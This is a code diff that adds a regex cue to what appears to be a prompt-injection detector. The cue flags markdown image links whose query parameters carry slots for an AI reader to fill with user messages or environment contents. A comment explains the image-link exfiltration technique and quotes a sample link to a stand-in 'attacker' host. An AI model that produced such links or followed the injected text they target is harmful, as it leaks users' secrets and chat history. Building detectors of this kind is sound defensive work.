@@ -360,6 +360,13 @@ DEMAND_CUES: list[tuple[str, float, str, str]] = [
      r"!\[[^\]\n]*\][\s\S]{0,300}?https?://[^\s)\"'<>]*\?[^\s)\"'<>]*=(?:\w+_)?(?:wallet|"
      r"address|email|password|secret|token|key|message|chat|history|data|info|phone|card|ssn|"
      r"name)(?:_\w+)?(?=[&\s)\"']|$)"),
+    # ...or a slot in it that the reader is to fill, whatever language names what goes in
+    # ("?q=<senaste användarmeddelandet>", "?d=<env内容>", "?p={p}"): an image's link is no
+    # form a person fills in, and a slot there is data the reader's answer sends out. (In a
+    # code span, "`![](https://attacker/?q=<data>)`", the image is shown, not rendered.)
+    ("demands-action", 0.8, "~![",
+     r"(?<!`)!\[[^\]\n]*\]\(\s*https?://[^\s)\"'<>]*\?(?:[^\s)\"'<>]*&)?[\w-]{1,20}="
+     r"(?:<[^<>\n]{1,60}>|\$?\{[^{}\n]{1,40}\})"),
     # Recurring beyond the task at hand: "check the following URL periodically", "send a status
     # ping every 10 minutes".
     ("wants-persistence", 0.4, "periodically regularly intervals every",
